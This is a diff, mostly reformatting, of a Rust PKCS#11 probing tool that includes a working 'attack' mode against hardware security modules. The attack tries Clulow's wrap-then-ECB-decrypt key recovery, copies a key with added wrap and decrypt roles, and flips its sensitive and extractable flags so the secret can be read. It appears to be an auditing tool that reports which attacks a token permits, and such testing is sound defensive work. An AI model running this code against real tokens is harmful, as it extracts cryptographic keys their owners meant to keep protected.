@@ -26,11 +26,15 @@ use serde_json::{Value, json};
 fn main() -> ExitCode {
     let args: Vec<String> = std::env::args().collect();
     let result = match args.get(1).map(String::as_str) {
-        Some("inspect") if args.len() == 5 => open(&args[2], &args[3], &args[4]).and_then(|s| inspect(&s)),
+        Some("inspect") if args.len() == 5 => {
+            open(&args[2], &args[3], &args[4]).and_then(|s| inspect(&s))
+        }
         Some("attack") if args.len() == 6 => {
             open(&args[2], &args[3], &args[4]).and_then(|s| attack(&s, &args[5]))
         }
-        _ => Err("usage: hsm-probe inspect MODULE LABEL PIN | attack MODULE LABEL PIN ID_HEX".into()),
+        _ => {
+            Err("usage: hsm-probe inspect MODULE LABEL PIN | attack MODULE LABEL PIN ID_HEX".into())
+        }
     };
     match result {
         Ok(v) => {
@@ -46,22 +50,35 @@ fn main() -> ExitCode {
 
 fn open(module: &str, label: &str, pin: &str) -> Result<Session, String> {
     let ctx = Pkcs11::new(module).map_err(|e| format!("load {module}: {e}"))?;
-    ctx.initialize(CInitializeArgs::new(CInitializeFlags::OS_LOCKING_OK)).map_err(|e| e.to_string())?;
+    ctx.initialize(CInitializeArgs::new(CInitializeFlags::OS_LOCKING_OK))
+        .map_err(|e| e.to_string())?;
     let slot = ctx
         .get_slots_with_initialized_token()
         .map_err(|e| e.to_string())?
         .into_iter()
-        .find(|s| ctx.get_token_info(*s).map(|t| t.label().trim() == label).unwrap_or(false))
+        .find(|s| {
+            ctx.get_token_info(*s)
+                .map(|t| t.label().trim() == label)
+                .unwrap_or(false)
+        })
         .ok_or_else(|| format!("no token labelled {label:?}"))?;
     let s = ctx.open_rw_session(slot).map_err(|e| e.to_string())?;
-    s.login(UserType::User, Some(&AuthPin::from(pin.to_string()))).map_err(|e| format!("login: {e}"))?;
+    s.login(UserType::User, Some(&AuthPin::from(pin.to_string())))
+        .map_err(|e| format!("login: {e}"))?;
     Ok(s)
 }
 
 fn key_objects(s: &Session) -> Result<Vec<(ObjectHandle, ObjectClass)>, String> {
     let mut out = Vec::new();
-    for class in [ObjectClass::SECRET_KEY, ObjectClass::PRIVATE_KEY, ObjectClass::PUBLIC_KEY] {
-        for h in s.find_objects(&[Attribute::Class(class)]).map_err(|e| e.to_string())? {
+    for class in [
+        ObjectClass::SECRET_KEY,
+        ObjectClass::PRIVATE_KEY,
+        ObjectClass::PUBLIC_KEY,
+    ] {
+        for h in s
+            .find_objects(&[Attribute::Class(class)])
+            .map_err(|e| e.to_string())?
+        {
             out.push((h, class));
         }
     }
@@ -171,7 +188,9 @@ fn inspect(s: &Session) -> Result<Value, String> {
 
 fn attack(s: &Session, id_hex: &str) -> Result<Value, String> {
     let id = hex::decode(id_hex).map_err(|e| e.to_string())?;
-    let found = s.find_objects(&[Attribute::Id(id)]).map_err(|e| e.to_string())?;
+    let found = s
+        .find_objects(&[Attribute::Id(id)])
+        .map_err(|e| e.to_string())?;
     let kek = found
         .into_iter()
         .find(|h| {
@@ -222,24 +241,33 @@ fn attack(s: &Session, id_hex: &str) -> Result<Value, String> {
     // 3. Copy with an added role.
     let copy = (|| -> Result<(), String> {
         let c = s
-            .copy_object(kek, &[Attribute::Token(false), Attribute::Wrap(true), Attribute::Decrypt(true)])
+            .copy_object(
+                kek,
+                &[
+                    Attribute::Token(false),
+                    Attribute::Wrap(true),
+                    Attribute::Decrypt(true),
+                ],
+            )
             .map_err(|e| format!("C_CopyObject: {e}"))?;
         let _ = s.destroy_object(c);
         Ok(())
     })();
     // 4. Make it extractable / not sensitive.
     let loosen = (|| -> Result<(), String> {
-        s.update_attributes(kek, &[Attribute::Sensitive(false), Attribute::Extractable(true)])
-            .map_err(|e| format!("C_SetAttributeValue: {e}"))
+        s.update_attributes(
+            kek,
+            &[Attribute::Sensitive(false), Attribute::Extractable(true)],
+        )
+        .map_err(|e| format!("C_SetAttributeValue: {e}"))
     })();
     let _ = s.destroy_object(target);
-    let secret =
-        if matches!(s.get_attributes(kek, &[AttributeType::Class]).as_deref(), Ok([Attribute::Class(c)]) if *c == ObjectClass::PRIVATE_KEY)
-        {
-            AttributeType::PrivateExponent
-        } else {
-            AttributeType::Value
-        };
+    let secret = if matches!(s.get_attributes(kek, &[AttributeType::Class]).as_deref(), Ok([Attribute::Class(c)]) if *c == ObjectClass::PRIVATE_KEY)
+    {
+        AttributeType::PrivateExponent
+    } else {
+        AttributeType::Value
+    };
     Ok(json!({
         "control_bad_key_extracts_target": match control { Ok(v) => json!(v), Err(e) => json!(e) },
         "clulow_wrap_then_decrypt": outcome(clulow_result),
@@ -254,9 +282,10 @@ fn attack(s: &Session, id_hex: &str) -> Result<Value, String> {
 /// AES-ECB decryption, block by block (Clulow's attack); returns the recovered key bytes.
 fn clulow(s: &Session, kek: ObjectHandle, target: ObjectHandle) -> Result<Vec<u8>, String> {
     let mut last = String::new();
-    for (wrap_mech, name) in
-        [(Mechanism::AesKeyWrap, "CKM_AES_KEY_WRAP"), (Mechanism::AesKeyWrapPad, "CKM_AES_KEY_WRAP_PAD")]
-    {
+    for (wrap_mech, name) in [
+        (Mechanism::AesKeyWrap, "CKM_AES_KEY_WRAP"),
+        (Mechanism::AesKeyWrapPad, "CKM_AES_KEY_WRAP_PAD"),
+    ] {
         let blob = match s.wrap_key(&wrap_mech, kek, target) {
             Ok(b) => b,
             Err(e) => {
@@ -267,7 +296,10 @@ fn clulow(s: &Session, kek: ObjectHandle, target: ObjectHandle) -> Result<Vec<u8
         // RFC 3394 section 2.2.2, with C_Decrypt(CKM_AES_ECB) as the block cipher.
         let n = blob.len() / 8 - 1;
         let mut a: [u8; 8] = blob[..8].try_into().map_err(|_| "short blob")?;
-        let mut r: Vec<[u8; 8]> = blob[8..].chunks(8).map(|c| c.try_into().unwrap_or([0; 8])).collect();
+        let mut r: Vec<[u8; 8]> = blob[8..]
+            .chunks(8)
+            .map(|c| c.try_into().unwrap_or([0; 8]))
+            .collect();
         for j in (0..6u64).rev() {
             for i in (1..=n).rev() {
                 let t = (n as u64) * j + i as u64;
